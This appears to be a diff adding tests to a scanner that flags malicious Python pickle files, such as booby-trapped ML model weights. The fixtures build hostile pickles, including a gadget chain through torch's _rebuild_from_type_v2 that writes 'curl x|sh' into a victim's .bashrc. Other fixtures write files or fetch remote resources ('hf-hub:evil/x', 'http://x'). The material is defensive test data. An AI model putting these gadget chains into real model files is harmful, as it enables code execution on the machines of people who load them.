@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { scanBytes } from '../scan-file.ts';
-import { dumps, py } from '../test-support/pickle-writer.ts';
+import { dumps, py, type Py } from '../test-support/pickle-writer.ts';
 import { classify, normaliseModule } from './policy.ts';
 
 describe('pickle policy', () => {
@@ -58,5 +58,28 @@ describe('pickle policy', () => {
     expect((await scanBytes(dumps(py.dict({ hook: method('_infer_parameters') }), 4))).verdict).toBe('clean');
     expect((await scanBytes(dumps(py.reduce(method('_infer_parameters'), py.tuple()), 4))).verdict).toBe('suspicious');
     expect((await scanBytes(dumps(method('__class__'), 4))).verdict).toBe('dangerous');
+  });
+
+  it('judges what torch._tensor._rebuild_from_type_v2 and copyreg._reconstructor call on the pickle\'s behalf', async () => {
+    const viaRebuild = (func: Py, ...args: Py[]) =>
+      dumps(py.reduce(py.global('torch._tensor', '_rebuild_from_type_v2'), py.tuple(func, py.global('builtins', 'int'), py.tuple(...args), py.dict({}))), 4);
+    const path = py.reduce(py.global('pathlib', 'PosixPath'), py.tuple('/home/victim/.bashrc'));
+    const writeText = py.reduce(py.global('builtins', 'getattr'), py.tuple(path, 'write_text'));
+    expect((await scanBytes(viaRebuild(writeText, 'curl x|sh'))).verdict).toBe('dangerous');
+    expect((await scanBytes(viaRebuild(py.global('numpy.lib._npyio_impl', 'savetxt'), '/tmp/x', 1))).verdict).toBe('dangerous');
+    expect((await scanBytes(viaRebuild(py.global('sklearn.feature_selection._univariate_selection', 'f_classif'), 1))).verdict).toBe('suspicious');
+    expect((await scanBytes(viaRebuild(py.global('torch._utils', '_rebuild_tensor_v2'), 1))).verdict).toBe('clean');
+    const reconstruct = (base: Py) =>
+      dumps(py.reduce(py.global('copyreg', '_reconstructor'), py.tuple(py.global('transformers.models.x.modeling_x', 'XModel'), base, py.dict({ a: 1 }))), 2);
+    expect((await scanBytes(reconstruct(py.global('builtins', 'object')))).verdict).toBe('clean');
+    expect((await scanBytes(reconstruct(py.global('transformers.models.x.modeling_x', 'XModel')))).verdict).toBe('suspicious');
+  });
+
+  it('allows pandas and transformers classes only as NEWOBJ, never constructed with arguments', async () => {
+    const newobj = dumps(py.reduce(py.global('transformers.models.gpt2.modeling_gpt2', 'GPT2Model'), py.tuple(), { newobj: true }), 4);
+    expect((await scanBytes(newobj)).verdict).toBe('clean');
+    const reduce = dumps(py.reduce(py.global('transformers.models.timm_backbone.modeling_timm_backbone', 'TimmBackbone'), py.tuple('hf-hub:evil/x')), 4);
+    expect((await scanBytes(reduce)).verdict).toBe('suspicious');
+    expect((await scanBytes(dumps(py.reduce(py.global('pandas.api.typing', 'JsonReader'), py.tuple('http://x')), 4))).verdict).toBe('dangerous');
   });
 });
